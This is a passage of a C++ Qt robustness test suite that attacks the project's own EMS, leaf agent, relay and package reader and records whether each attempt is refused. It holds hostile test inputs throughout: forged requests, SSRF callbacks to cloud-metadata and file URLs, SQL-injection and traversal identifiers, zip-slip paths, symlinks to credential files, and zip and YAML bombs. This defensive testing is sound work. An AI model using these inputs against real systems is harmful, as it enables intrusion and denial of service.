// The attack and fault campaign, bounded so it runs in every CI build: each kind of attack or
// fault is tried several ways against real processes (vines-leaf, vines-ems, the catalog
// writer) and real files (zip archives, SQLite databases), every attempt's outcome is counted,
// and the suite fails if any attempt was not held. The table of kinds, attempts and outcomes is
// printed at the end and written to robustness-report.txt in the working directory.
#include "TestSupport.h"
#include "catalog/Database.h"
#include "net/RequestSigning.h"
#include "nfvo/NsdParser.h"
#include "package/PackageReader.h"
#include <QDateTime>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QRandomGenerator>
#include <QSqlQuery>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <csignal>
#include <deque>
#include <sys/socket.h>

using namespace vines;
using namespace vines::test;

namespace {

const QByteArray VnfmSecret = "campaign-vnfm-secret-0123456789";
const QByteArray OssSecret = "campaign-oss-secret-0123456789";

// One kind of attack or fault: how often it was tried, how each try ended, which were not held.
struct Kind {
    QString target, name;
    int attempts = 0, held = 0;
    QMap<QString, int> outcomes;
    QStringList failures;
};

class Campaign {
public:
    Kind &kind(const QString &target, const QString &name)
    {
        for (Kind &k : m_kinds)
            if (k.target == target && k.name == name)
                return k;
        m_kinds.push_back({target, name});
        return m_kinds.back();
    }
    static void attempt(Kind &k, bool held, const QString &outcome, const QString &what = {})
    {
        ++k.attempts;
        k.outcomes[outcome] += 1;
        if (held)
            ++k.held;
        else
            k.failures << (what.isEmpty() ? outcome : what + ": " + outcome);
    }
    QString report() const
    {
        QString out = QStringLiteral("%1 %2 %3 %4  outcomes\n").arg("target", -8).arg("kind", -46).arg("tries", 6).arg("held", 5);
        int attempts = 0, held = 0;
        for (const Kind &k : m_kinds) {
            QStringList o;
            for (auto it = k.outcomes.begin(); it != k.outcomes.end(); ++it)
                o << QStringLiteral("%1 ×%2").arg(it.key()).arg(it.value());
            out += QStringLiteral("%1 %2 %3 %4  %5\n").arg(k.target, -8).arg(k.name, -46).arg(k.attempts, 6).arg(k.held, 5).arg(o.join(", "));
            for (const QString &f : k.failures)
                out += QStringLiteral("         NOT HELD: %1\n").arg(f.left(300));
            attempts += k.attempts;
            held += k.held;
        }
        out += QStringLiteral("%1 kinds, %2 attempts, %3 held\n").arg(qsizetype(m_kinds.size())).arg(attempts).arg(held);
        return out;
    }
    const std::deque<Kind> &kinds() const { return m_kinds; }

private:
    std::deque<Kind> m_kinds;   // references to kinds stay valid as more are added
};

// Headers that sign a request as `key` with `secret` (the EMS's and Leaf's scheme).
QMap<QByteArray, QByteArray> signedHeaders(const QByteArray &key, const QByteArray &secret, const QByteArray &verb, const QString &url,
                                           const QByteArray &body, qint64 at = 0, const QByteArray &nonce = {})
{
    const QByteArray ts = QByteArray::number(at ? at : QDateTime::currentSecsSinceEpoch());
    QMap<QByteArray, QByteArray> h{{"X-Vines-Key", key}, {"X-Vines-Timestamp", ts},
                                   {"X-Vines-Signature", signing::sign(secret, signing::stringToSign(verb, QUrl(url), ts, body, nonce))}};
    if (!nonce.isEmpty())
        h.insert("X-Vines-Nonce", nonce);
    return h;
}

// Raw bytes to a server; what came back until it closed or `waitMs` passed.
QByteArray rawExchange(const QString &host, quint16 port, const QByteArray &bytes, int waitMs = 3000)
{
    QTcpSocket s;
    s.connectToHost(host, port);
    if (!s.waitForConnected(3000))
        return "<no connection>";
    s.write(bytes);
    QElapsedTimer t;
    t.start();
    QByteArray got;
    while (t.elapsed() < waitMs && s.state() == QAbstractSocket::ConnectedState) {
        s.waitForReadyRead(50);
        got += s.readAll();
        if (got.contains("\r\n\r\n") && got.startsWith("HTTP/"))
            break;
    }
    return got + s.readAll();
}

QString statusOf(const QByteArray &answer)
{
    if (answer == "<no connection>")
        return QStringLiteral("no connection");
    if (answer.isEmpty())
        return QStringLiteral("closed");
    return answer.startsWith("HTTP/1.") ? QString::fromLatin1(answer.mid(9, 3)) : QStringLiteral("non-HTTP answer");
}

// Malformed HTTP every server must survive: never a 2xx, and the server still answers afterwards.
QList<QPair<QString, QByteArray>> malformedRequests()
{
    QRandomGenerator rng(15);
    QByteArray noise(4096, '\0');
    for (char &c : noise)
        c = char(rng.bounded(256));
    QByteArray manyHeaders = "GET /status HTTP/1.1\r\nHost: x\r\n";
    for (int i = 0; i < 5000; ++i)
        manyHeaders += "X-" + QByteArray::number(i) + ": y\r\n";
    return {{"garbage request line", "GARBAGE\r\n\r\n"},
            {"unknown HTTP version", "GET /status HTTP/9.9\r\n\r\n"},
            {"negative Content-Length", "POST /nf HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n{}"},
            {"100 KiB header line", "GET /status HTTP/1.1\r\nX-Big: " + QByteArray(100 * 1024, 'h') + "\r\n\r\n"},
            {"100 KiB path", "GET /" + QByteArray(100 * 1024, 'p') + " HTTP/1.1\r\nHost: x\r\n\r\n"},
            {"huge chunk size", "POST /nf HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\n" + QByteArray(1024, 'c')},
            {"binary noise", noise},
            {"5000 headers", manyHeaders + "\r\n"},
            {"NUL in path", QByteArray("GET /sta") + '\0' + "tus HTTP/1.1\r\nHost: x\r\n\r\n"}};
}

qint64 peakKb() { return statusKb(QCoreApplication::applicationPid(), "VmHWM"); }

} // namespace

class TstRobustness : public QObject {
    Q_OBJECT
    QTemporaryDir m_tmp;
    Campaign m_c;
    QString m_leafAddr, m_sinkAddr;
    std::unique_ptr<LeafProcess> m_leaf;
    std::unique_ptr<EmsProcess> m_ems;

    bool leafNfRunning() const
    {
        return m_leaf->call("GET", "/status").object().value("nf").toObject().value("state").toString() == QLatin1String("running");
    }
    HttpReply ems(const QByteArray &verb, const QString &path, const QByteArray &key, const QByteArray &secret, const QByteArray &body = {})
    {
        const QString url = m_ems->url(path);
        return httpRaw(verb, url, body, signedHeaders(key, secret, verb, url, body, 0, QByteArray::number(QRandomGenerator::global()->generate64())));
    }
    int emsVnfCount() { return int(ems("GET", "/vevnfm-em/v1/vnfs", "vnfm", VnfmSecret).json.toArray().size()); }
    bool targetRegistered() { return ems("GET", "/vevnfm-em/v1/vnfs/target", "vnfm", VnfmSecret).ok; }

    // Raw HTTP attacks on one server: never a 2xx; afterwards `alive` still holds.
    void malformedHttp(const QString &target, const QString &host, quint16 port, const std::function<bool()> &alive)
    {
        Kind &k = m_c.kind(target, "malformed HTTP");
        for (const auto &[what, bytes] : malformedRequests()) {
            const QString status = statusOf(rawExchange(host, port, bytes));
            Campaign::attempt(k, !status.startsWith('2') && alive(), status, what);
        }
    }
    // Announced or streamed bodies beyond the limit: 413 before buffering, memory stays put.
    void oversizeBodies(const QString &target, const QString &host, quint16 port, const QByteArray &path, qint64 pid, qint64 limit,
                        const std::function<bool()> &alive)
    {
        Kind &k = m_c.kind(target, "request bodies over the limit");
        const qint64 before = residentKb(pid);
        for (const QByteArray &length : {QByteArray::number(limit + 1), QByteArray("1073741824"), QByteArray("4611686018427387904")}) {
            QTcpSocket s;
            s.connectToHost(host, port);
            QVERIFY(s.waitForConnected(3000));
            s.write("PUT " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " + length + "\r\n\r\n");
            const QByteArray chunk(1024 * 1024, 'x');
            QByteArray answer;
            for (int i = 0; i < 96 && s.state() == QAbstractSocket::ConnectedState && !answer.contains("\r\n\r\n"); ++i) {
                s.write(chunk);
                s.waitForBytesWritten(100);
                if (s.waitForReadyRead(5))
                    answer += s.readAll();
            }
            answer += s.readAll();
            const qint64 grown = residentKb(pid) - before;
            const QString status = statusOf(answer);
            Campaign::attempt(k, status == "413" && grown < 32 * 1024 && alive(), status, QStringLiteral("Content-Length %1 (RSS +%2 kB)").arg(QString::fromLatin1(length)).arg(grown));
        }
    }
    // More connections than the server takes: the surplus is closed, the server answers afterwards.
    void connectionFlood(const QString &target, const QString &host, quint16 port, qint64 pid, int limit, const std::function<bool()> &alive)
    {
        Kind &k = m_c.kind(target, "connection flood (600 idle connections)");   // each connection an attempt
        QList<QTcpSocket *> flood;
        for (int i = 0; i < 600; ++i) {
            auto *c = new QTcpSocket(this);
            c->connectToHost(host, port);
            flood << c;
        }
        QElapsedTimer t;
        t.start();
        auto count = [&](QAbstractSocket::SocketState state) {
            return int(std::count_if(flood.begin(), flood.end(), [state](QTcpSocket *c) { return c->state() == state; }));
        };
        while (t.elapsed() < 10000 && count(QAbstractSocket::ConnectingState) + count(QAbstractSocket::HostLookupState) > 0)
            QTest::qWait(50);   // every connection accepted or refused by the kernel first
        QTest::qWait(500);      // then the server has had time to close what it does not take
        // What the server holds is what counts (a client may see "connected" while its connection
        // still waits in the kernel's accept queue): its sockets must stay within the limit.
        int sockets = 0;
        const QString fdDir = QStringLiteral("/proc/%1/fd").arg(pid);
        for (const QString &fd : QDir(fdDir).entryList(QDir::NoDotAndDotDot | QDir::System | QDir::Files))
            sockets += QFile::symLinkTarget(fdDir + '/' + fd).contains("socket:");
        const qint64 fds = QDir(fdDir).entryList(QDir::NoDotAndDotDot | QDir::AllEntries | QDir::System).size();
        const bool bounded = sockets <= limit + 8;   // the listening sockets and the agent's own clients besides
        for (QTcpSocket *c : std::as_const(flood))
            Campaign::attempt(k, bounded, c->state() == QAbstractSocket::ConnectedState ? "open or queued" : "closed by the server",
                              QStringLiteral("server holds %1 sockets (limit %2)").arg(sockets).arg(limit));
        qDeleteAll(flood);
        Kind &after = m_c.kind(target, "service after a flood");
        bool answered = false;
        for (int i = 0; i < 100 && !answered; ++i) {
            answered = alive();
            if (!answered)
                QTest::qWait(100);
        }
        Campaign::attempt(after, answered && fds < 600, answered ? QStringLiteral("answered (server held %1 sockets, %2 fds)").arg(sockets).arg(fds) : "no answer");
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_sinkAddr = freeLoopback(15, 1);
        m_leafAddr = freeLoopback(15, 2);
        m_leaf = std::make_unique<LeafProcess>(m_leafAddr, m_tmp.filePath("leaf"), "leaf-campaign");
        QVERIFY(m_leaf->start());
        QVERIFY(m_leaf->call("POST", "/nf", {{"name", "fwd"}, {"type", "forwarder"},
                                             {"config", QJsonObject{{"listen_port", 9400}, {"idle_timeout_s", 1},
                                                                    {"next_hop", QStringLiteral("%1:9401").arg(m_sinkAddr)}}}}).ok);
        QVERIFY(m_leaf->call("POST", "/nf/start").ok);
        QVERIFY(leafNfRunning());
        QJsonObject cfg{{"defaultPollIntervalMs", 500}, {"maxConnections", 256},
                        {"clients", QJsonArray{QJsonObject{{"id", "vnfm"}, {"role", "vnfm"}, {"secret", QString::fromLatin1(VnfmSecret)}},
                                               QJsonObject{{"id", "oss"}, {"role", "oss"}, {"secret", QString::fromLatin1(OssSecret)},
                                                           {"callbackHosts", QJsonArray{"127.0.0.1", "localhost", m_leafAddr}}}}}};
        m_ems = std::make_unique<EmsProcess>(m_tmp.filePath("ems"), cfg);
        QString error;
        VERIFY_OK(m_ems->start());
        const QJsonObject reg{{"vnfInstanceId", "target"}, {"vnfExp", "leaf"}, {"managementAddress", m_leafAddr + ":7780"},
                              {"driverOptions", QJsonObject{{"leafSecret", QString::fromLatin1(LeafProcess::secret())}}}};
        QCOMPARE(ems("POST", "/vevnfm-em/v1/vnfs", "vnfm", VnfmSecret, QJsonDocument(reg).toJson(QJsonDocument::Compact)).status, 201);
    }

    void leafAgent()
    {
        const QList<QPair<QByteArray, QString>> routes{{"GET", "/status"}, {"GET", "/metrics"}, {"GET", "/logs?lines=5"}, {"GET", "/nf/config"},
                                                        {"POST", "/nf"}, {"POST", "/nf/start"}, {"POST", "/nf/stop"}, {"POST", "/nf/restart"},
                                                        {"DELETE", "/nf"}, {"PUT", "/nf/config"}, {"PUT", "/credentials"}};
        const QByteArray body = R"({"name":"pwn","type":"exec","config":{"command":"touch pwned"},"secret":"attacker-chosen-secret-1"})";
        const qint64 now = QDateTime::currentSecsSinceEpoch();
        struct Forgery { QString name; std::function<QMap<QByteArray, QByteArray>(const QByteArray &, const QString &)> headers; };
        const QList<Forgery> forgeries{
            {"unsigned requests", [](const QByteArray &, const QString &) { return QMap<QByteArray, QByteArray>{}; }},
            {"signed with a foreign secret", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", "a-foreign-secret-0123456789", v, u, body); }},
            {"stale or future timestamps", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", LeafProcess::secret(), v, u, body, now - 3600); }},
            {"signature over another body", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", LeafProcess::secret(), v, u, "{}"); }}};
        for (const Forgery &f : forgeries) {
            Kind &k = m_c.kind("leaf", f.name);
            for (const auto &[verb, path] : routes) {
                const HttpReply r = httpRaw(verb, m_leaf->url(path), body, f.headers(verb, m_leaf->url(path)));
                Campaign::attempt(k, r.status == 401, QString::number(r.status), verb + ' ' + path);
            }
        }
        Kind &future = m_c.kind("leaf", "stale or future timestamps");
        for (const qint64 at : {now + 3600, qint64(1), qint64(-5)}) {
            const HttpReply r = httpRaw("POST", m_leaf->url("/nf/stop"), {}, signedHeaders("vnfm", LeafProcess::secret(), "POST", m_leaf->url("/nf/stop"), {}, at));
            Campaign::attempt(future, r.status == 401, QString::number(r.status), QStringLiteral("timestamp %1").arg(at));
        }
        Kind &replay = m_c.kind("leaf", "replayed signed requests");
        for (const auto &[verb, path] : QList<QPair<QByteArray, QString>>{{"GET", "/status"}, {"GET", "/metrics"}, {"GET", "/nf/config"}, {"GET", "/logs?lines=1"}}) {
            const QString url = m_leaf->url(path);
            const auto captured = signedHeaders("vnfm", LeafProcess::secret(), verb, url, {}, 0, "campaign-" + path.toLatin1());
            const bool first = httpRaw(verb, url, {}, captured).ok;
            const HttpReply again = httpRaw(verb, url, {}, captured);
            Campaign::attempt(replay, first && again.status == 401, QString::number(again.status), verb + ' ' + path);
        }
        // Nothing any of that did took effect.
        QVERIFY(leafNfRunning());
        QVERIFY(!QFile::exists(QDir(m_tmp.filePath("leaf")).filePath("pwned")));
        const qint64 pid = m_leaf->process().processId();
        auto alive = [this]() { return m_leaf->call("GET", "/status", {}, 3000).ok; };
        malformedHttp("leaf", m_leafAddr, 7780, alive);
        oversizeBodies("leaf", m_leafAddr, 7780, "/nf/config", pid, 64LL << 20, alive);
        connectionFlood("leaf", m_leafAddr, 7780, pid, 512, alive);
        QVERIFY(leafNfRunning());
    }

    void dataPlane()
    {
        // The forwarder's next hop accepts and never reads: writers stall, the relay holds a bounded amount.
        QTcpServer sink;
        QVERIFY(sink.listen(QHostAddress(m_sinkAddr), 9401));
        QList<QTcpSocket *> held;
        connect(&sink, &QTcpServer::newConnection, this, [&]() { while (QTcpSocket *s = sink.nextPendingConnection()) { s->setReadBufferSize(1); held << s; } });
        const qint64 pid = m_leaf->process().processId();
        const qint64 before = residentKb(pid);
        Kind &slow = m_c.kind("relay", "next hop never reads (3 × 48 MiB offered)");
        QList<QTcpSocket *> writers;
        for (int i = 0; i < 3; ++i) {
            auto *w = new QTcpSocket(this);
            w->connectToHost(m_leafAddr, 9400);
            QVERIFY(w->waitForConnected(3000));
            writers << w;
        }
        const QByteArray chunk(1024 * 1024, 's');
        QElapsedTimer t;
        t.start();
        QList<qint64> offered(writers.size(), 0);
        while (t.elapsed() < 6000) {
            for (int i = 0; i < writers.size(); ++i)
                if (offered[i] < 48LL << 20 && writers[i]->bytesToWrite() < 2 * 1024 * 1024) {
                    writers[i]->write(chunk);
                    offered[i] += chunk.size();
                }
            QTest::qWait(20);
        }
        const qint64 grown = residentKb(pid) - before;
        for (int i = 0; i < writers.size(); ++i)
            Campaign::attempt(slow, grown < 32 * 1024, QStringLiteral("relay RSS +%1 MiB").arg(grown / 1024), QStringLiteral("writer %1").arg(i));
        qDeleteAll(writers);
        qDeleteAll(held);
        held.clear();

        // Half-open and silent flows are closed after the NF's idle timeout (1 s).
        Kind &idle = m_c.kind("relay", "silent and half-closed flows (idle 1 s)");
        QList<QTcpSocket *> quiet;
        for (int i = 0; i < 20; ++i) {
            auto *q = new QTcpSocket(this);
            q->connectToHost(m_leafAddr, 9400);
            QVERIFY(q->waitForConnected(3000));
            if (i % 2) {   // one byte, then our side shuts its write half
                q->write("x");
                q->waitForBytesWritten(1000);
                ::shutdown(int(q->socketDescriptor()), SHUT_WR);
            }
            quiet << q;
        }
        t.restart();
        while (t.elapsed() < 8000 && std::any_of(quiet.begin(), quiet.end(), [](QTcpSocket *q) { return q->state() == QAbstractSocket::ConnectedState; }))
            QTest::qWait(100);
        for (int i = 0; i < quiet.size(); ++i)
            Campaign::attempt(idle, quiet[i]->state() != QAbstractSocket::ConnectedState,
                              quiet[i]->state() == QAbstractSocket::ConnectedState ? "still open after 8 s" : "closed by the relay",
                              i % 2 ? "half-closed" : "silent");
        qDeleteAll(quiet);
        qDeleteAll(held);
        QVERIFY(leafNfRunning());
    }

    void emsDaemon()
    {
        const QList<QPair<QByteArray, QString>> routes{{"GET", "/vevnfm-em/v1/vnfs"}, {"POST", "/vevnfm-em/v1/vnfs"}, {"DELETE", "/vevnfm-em/v1/vnfs/target"},
                                                        {"POST", "/vevnfm-em/v1/vnfs/target/nf/stop"}, {"PUT", "/vevnfm-em/v1/vnfs/target/config"},
                                                        {"GET", "/vevnfm-em/v1/alarms"}, {"POST", "/vevnfm-em/v1/subscriptions"}, {"POST", "/vevnfm-em/v1/pm_jobs"},
                                                        {"GET", "/os-em/v1/vnfs"}, {"GET", "/os-em/v1/alarms"}, {"GET", "/vevnfm-em/v1/ems"}};
        const QByteArray body = R"({"vnfInstanceId":"intruder","vnfExp":"leaf","managementAddress":"127.0.0.1:1"})";
        const qint64 now = QDateTime::currentSecsSinceEpoch();
        const QList<QPair<QString, std::function<QMap<QByteArray, QByteArray>(const QByteArray &, const QString &)>>> forgeries{
            {"unsigned requests", [](const QByteArray &, const QString &) { return QMap<QByteArray, QByteArray>{}; }},
            {"signed with a foreign secret", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", "not-the-vnfm-secret-0000", v, u, body); }},
            {"signed by an unknown client", [&](const QByteArray &v, const QString &u) { return signedHeaders("mallory", VnfmSecret, v, u, body); }},
            {"stale or future timestamps", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", VnfmSecret, v, u, body, now + 7200); }},
            {"signature over another body", [&](const QByteArray &v, const QString &u) { return signedHeaders("vnfm", VnfmSecret, v, u, "{}"); }}};
        for (const auto &[name, headers] : forgeries) {
            Kind &k = m_c.kind("ems", name);
            for (const auto &[verb, path] : routes) {
                // GETs carry no body: "another body" is the attack's own body, signed over "{}".
                const HttpReply r = httpRaw(verb, m_ems->url(path), body, headers(verb, m_ems->url(path)));
                Campaign::attempt(k, r.status == 401, QString::number(r.status), verb + ' ' + path);
            }
        }
        Kind &replay = m_c.kind("ems", "replayed signed requests");
        for (const QString &path : {"/vevnfm-em/v1/vnfs", "/vevnfm-em/v1/alarms", "/vevnfm-em/v1/vnfs/target", "/os-em/v1/vnfs"}) {
            const QByteArray key = path.startsWith("/os-em") ? "oss" : "vnfm";
            const auto captured = signedHeaders(key, key == "oss" ? OssSecret : VnfmSecret, "GET", m_ems->url(path), {});
            const bool first = httpRaw("GET", m_ems->url(path), {}, captured).ok;
            const HttpReply again = httpRaw("GET", m_ems->url(path), {}, captured);
            Campaign::attempt(replay, first && again.status == 401, QString::number(again.status), path);
        }
        // The read-only client may not act, on its own interface or the VNFM's, however the path is spelt.
        Kind &oss = m_c.kind("ems", "read-only client acting");
        const QList<QPair<QByteArray, QString>> writes{{"POST", "/os-em/v1/vnfs"}, {"DELETE", "/os-em/v1/vnfs/target"}, {"POST", "/os-em/v1/vnfs/target/nf/stop"},
                                                        {"PUT", "/os-em/v1/vnfs/target/config"}, {"POST", "/os-em/v1/pm_jobs"}, {"GET", "/vevnfm-em/v1/vnfs"},
                                                        {"POST", "/vevnfm-em/v1/vnfs/target/nf/stop"}, {"DELETE", "/os-em/v1/vnfs/subscriptions-evil"},
                                                        {"DELETE", "/os-em/v1/subscriptions/../vnfs/target"}, {"DELETE", "/os-em/v1/vnfs/target%2F..%2Fsubscriptions"},
                                                        {"DELETE", "/os-em/v1//vnfs/target"}, {"DELETE", "/os-em/v1/vnfs/TARGET"}};
        for (const auto &[verb, path] : writes) {
            const HttpReply r = ems(verb, path, "oss", OssSecret, body);
            Campaign::attempt(oss, r.status >= 400 && r.status < 500 && targetRegistered(), QString::number(r.status), verb + ' ' + path);
        }
        // Subscriptions as a weapon (request forgery): every callback here is refused, nothing is subscribed.
        Kind &ssrf = m_c.kind("ems", "forged notification callbacks");
        const int subsBefore = int(ems("GET", "/os-em/v1/subscriptions", "oss", OssSecret).json.toArray().size());
        const QStringList callbacks{QStringLiteral("http://%1:7780/nf/stop").arg(m_leafAddr), QStringLiteral("http://%1:7780/credentials").arg(m_leafAddr),
                                    "file:///etc/passwd", "gopher://127.0.0.1:7780/_POST%20/nf/stop", "http://127.0.0.1:9/cb",
                                    "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/cb", QStringLiteral("http://x@%1:7780/nf/stop").arg(m_leafAddr),
                                    "ftp://127.0.0.1/cb", "http:///nohost", "not a url at all"};
        for (const QString &cb : callbacks)
            for (const QByteArray &client : {QByteArray("oss"), QByteArray("vnfm")}) {
                const QByteArray sub = QJsonDocument(QJsonObject{{"callbackUri", cb}, {"notificationTypes", QJsonArray{"AlarmNotification"}}}).toJson(QJsonDocument::Compact);
                const HttpReply r = ems("POST", (client == "oss" ? "/os-em/v1" : "/vevnfm-em/v1") + QStringLiteral("/subscriptions"), client,
                                        client == "oss" ? OssSecret : VnfmSecret, sub);
                Campaign::attempt(ssrf, r.status >= 400 && r.status < 500, QString::number(r.status), client + " → " + cb);
            }
        QCOMPARE(int(ems("GET", "/os-em/v1/subscriptions", "oss", OssSecret).json.toArray().size()), subsBefore);
        QVERIFY(leafNfRunning());
        // Hostile identifiers: refused, or stored and returned exactly; nothing else disturbed.
        Kind &ids = m_c.kind("ems", "hostile identifiers and fields");
        const int count = emsVnfCount();
        const QStringList hostile{"x'); DROP TABLE vnfs; --", "../../etc/passwd", "a/b", QString(4096, 'x'), QStringLiteral("名前-ü"), "<script>alert(1)</script>",
                                  "", " ", QStringLiteral("nul\u0000byte"), "%2e%2e", "target"};
        for (const QString &id : hostile) {
            const QByteArray reg = QJsonDocument(QJsonObject{{"vnfInstanceId", id}, {"vnfExp", "leaf"}, {"managementAddress", "127.0.0.1:1"}}).toJson(QJsonDocument::Compact);
            const HttpReply r = ems("POST", "/vevnfm-em/v1/vnfs", "vnfm", VnfmSecret, reg);
            bool held = r.status >= 400 && r.status < 500 && r.object().value("error").toObject().contains("message");
            if (r.status == 201) {
                const QString path = "/vevnfm-em/v1/vnfs/" + QString::fromLatin1(QUrl::toPercentEncoding(id));
                held = ems("GET", path, "vnfm", VnfmSecret).object().value("vnfInstanceId").toString() == id && ems("DELETE", path, "vnfm", VnfmSecret).ok;
            }
            Campaign::attempt(ids, held && emsVnfCount() == count && targetRegistered(), QString::number(r.status), id.left(40));
        }
        const qint64 pid = m_ems->process().processId();
        auto alive = [this]() { return targetRegistered(); };
        malformedHttp("ems", "127.0.0.1", m_ems->port(), alive);
        oversizeBodies("ems", "127.0.0.1", m_ems->port(), "/vevnfm-em/v1/vnfs/target/config", pid, 256LL << 20, alive);
        connectionFlood("ems", "127.0.0.1", m_ems->port(), pid, 256, alive);
        QCOMPARE(m_ems->process().state(), QProcess::Running);
    }

    void packages()
    {
        const auto base = sampleSources("echo");
        int n = 0;
        auto read = [&](const QMap<QString, QByteArray> &files, bool seal = true) {
            auto f = files;
            if (seal)
                refreshManifest(f);
            return PackageReader::read(writeZip(m_tmp.path(), QStringLiteral("p%1.csar").arg(++n), f));
        };
        auto refused = [](Kind &k, const Result<VnfPackage> &r, const QString &expect, const QString &what) {
            const bool ok = !r.ok() && r.errorMessage().contains(expect) && !r.error().location().file.isEmpty();
            Campaign::attempt(k, ok, r.ok() ? QStringLiteral("accepted") : QStringLiteral("refused"), what + (r.ok() ? QString() : " — " + r.errorMessage().left(160)));
        };
        Kind &slip = m_c.kind("package", "zip slip entry names");
        for (const QString &name : {"../evil.sh", "../../etc/cron.d/x", "Scripts/../../evil.sh", "/etc/passwd", "Files/../../../tmp/x", "./../x"}) {
            auto f = base;
            f.insert(name, "#!/bin/sh\n");
            refused(slip, read(f, false), "zip slip", name);
        }
        Kind &links = m_c.kind("package", "symbolic links");
        for (const QString &target : {"/etc/passwd", "../../.ssh/authorized_keys"}) {
            const QString path = writeZip(m_tmp.path(), QStringLiteral("link%1.csar").arg(++n), base);
            const int rc = QProcess::execute("/usr/bin/python3", {"-c", "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'a')\n"
                                                                        "i = zipfile.ZipInfo('Files/link')\ni.external_attr = 0o120777 << 16\n"
                                                                        "z.writestr(i, sys.argv[2])\nz.close()", path, target});
            QCOMPARE(rc, 0);
            refused(links, PackageReader::read(path), "symbolic link", target);
        }
        // Bombs are built first, then read with the peak-memory mark reset, so the figure is the reader's.
        Kind &bombs = m_c.kind("package", "compression bombs");
        QList<QPair<QString, QString>> bombFiles;
        for (const int mib : {64, 127}) {
            auto f = base;
            f.insert("Files/zeros.bin", QByteArray(qint64(mib) * 1024 * 1024, '\0'));
            refreshManifest(f);
            bombFiles.append({QStringLiteral("one %1 MiB entry of zeros").arg(mib), writeZip(m_tmp.path(), QStringLiteral("bomb%1.csar").arg(mib), f)});
        }
        for (const int count : {48, 600}) {
            auto f = base;
            const QByteArray zeros(1024 * 1024, '\0');
            for (int i = 0; i < count; ++i)
                f.insert(QStringLiteral("Files/pad/%1.bin").arg(i), zeros);
            refreshManifest(f);
            bombFiles.append({QStringLiteral("%1 entries of 1 MiB zeros").arg(count), writeZip(m_tmp.path(), QStringLiteral("pad%1.csar").arg(count), f)});
        }
        QFile clear("/proc/self/clear_refs");   // "5" resets VmHWM to the current RSS
        const bool peakReset = clear.open(QIODevice::WriteOnly) && clear.write("5") == 1;
        clear.close();
        const qint64 peakBefore = peakKb();
        for (const auto &[what, path] : bombFiles) {
            const Result<VnfPackage> r = PackageReader::read(path);
            refused(bombs, r, what.contains("entries") ? "inflates to more than" : "zip bomb", what);
        }
        // Alias and nesting bombs in the descriptor, in the places a parser walks.
        Kind &yaml = m_c.kind("package", "YAML alias and nesting bombs");
        const QString df = "Definitions/echo_df_simple.yaml";
        const QByteArray anchor = "        flavour_description: One Leaf VDU\n";
        QVERIFY(base.value(df).contains(anchor));
        QByteArray laughs = "        vnf_exp:\n          platform: leaf\n          nf_type: echo\n          config:\n            l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n";
        for (int i = 1; i <= 7; ++i) {
            laughs += QStringLiteral("            l%1: &l%1 [").arg(i).toLatin1();
            for (int j = 0; j < 10; ++j)
                laughs += QStringLiteral("*l%1%2").arg(i - 1).arg(j < 9 ? ", " : "]\n").toLatin1();
        }
        const QList<QPair<QString, QByteArray>> bombsYaml{
            {"billion laughs in vnf_exp.config", laughs},
            {"self alias in vnf_exp.config", "        vnf_exp:\n          platform: leaf\n          nf_type: echo\n          config: &loop\n            again: *loop\n"},
            {"self alias in a property", "        extra: &p\n          - *p\n"},
            {"flow nesting 20000 deep", "        deep: " + QByteArray(20000, '[') + QByteArray(20000, ']') + "\n"},
            {"map nesting 3000 deep", [] { QByteArray b = "        deep:\n"; for (int i = 0; i < 3000; ++i) b += QByteArray(10 + (i % 200), ' ') + "k:\n"; return b; }()}};
        for (const auto &[what, text] : bombsYaml) {
            auto f = base;
            f[df].replace(anchor, anchor + text);
            QElapsedTimer t;
            t.start();
            const Result<VnfPackage> r = read(f);
            Campaign::attempt(yaml, !r.ok() && r.error().location().file == df && r.error().location().line > 0 && t.elapsed() < 20000,
                              r.ok() ? "accepted" : QStringLiteral("refused in %1 ms").arg(t.elapsed() < 1000 ? "<1000" : QString::number(t.elapsed())),
                              what + (r.ok() ? QString() : " — " + r.errorMessage().left(160)));
        }
        // The same bombs in a network service descriptor.
        Kind &nsd = m_c.kind("nsd", "YAML alias and nesting bombs");
        QFile demo(sourceDir() + "/resources/ns/demo-chain.yaml");
        QVERIFY(demo.open(QIODevice::ReadOnly));
        const QByteArray nsText = demo.readAll();
        const QByteArray nsAnchor = "        designer: Vines\n";
        QVERIFY(nsText.contains(nsAnchor));
        NsdParser::parse(nsText, "demo-chain.yaml");   // the untouched descriptor parses
        for (const auto &[what, text] : bombsYaml) {
            QByteArray bomb = nsText;
            bomb.replace(nsAnchor, nsAnchor + text);
            QElapsedTimer t;
            t.start();
            QString outcome = "accepted";
            bool held = false;
            try {
                NsdParser::parse(bomb, "bomb.yaml");
            } catch (const PackageException &e) {
                held = e.error().file == "bomb.yaml" && e.error().line > 0 && t.elapsed() < 20000;
                outcome = e.error().line > 0 ? QStringLiteral("refused, naming the line") : QStringLiteral("refused, no line");
            }
            Campaign::attempt(nsd, held, outcome, what);
        }
        Kind &memory = m_c.kind("package", "reader's peak memory over the bombs");
        const qint64 peakGrowth = peakKb() - peakBefore;
        Campaign::attempt(memory, peakGrowth < 256 * 1024, QStringLiteral("peak +%1 MiB%2").arg(peakGrowth / 1024).arg(peakReset ? "" : " (mark not reset)"));
        // Manifests that do not vouch for the package are not shown as verified.
        Kind &manifest = m_c.kind("package", "manifest does not vouch");
        auto unverified = [&](const QMap<QString, QByteArray> &f, const QString &what) {
            const Result<VnfPackage> r = read(f, false);
            Campaign::attempt(manifest, !r.ok() || !r->manifestVerified, r.ok() ? (r->manifestVerified ? "shown verified" : "accepted, not verified") : "refused", what);
        };
        {
            auto f = base;
            refreshManifest(f);
            f.insert("Files/unlisted.txt", "not in the manifest");
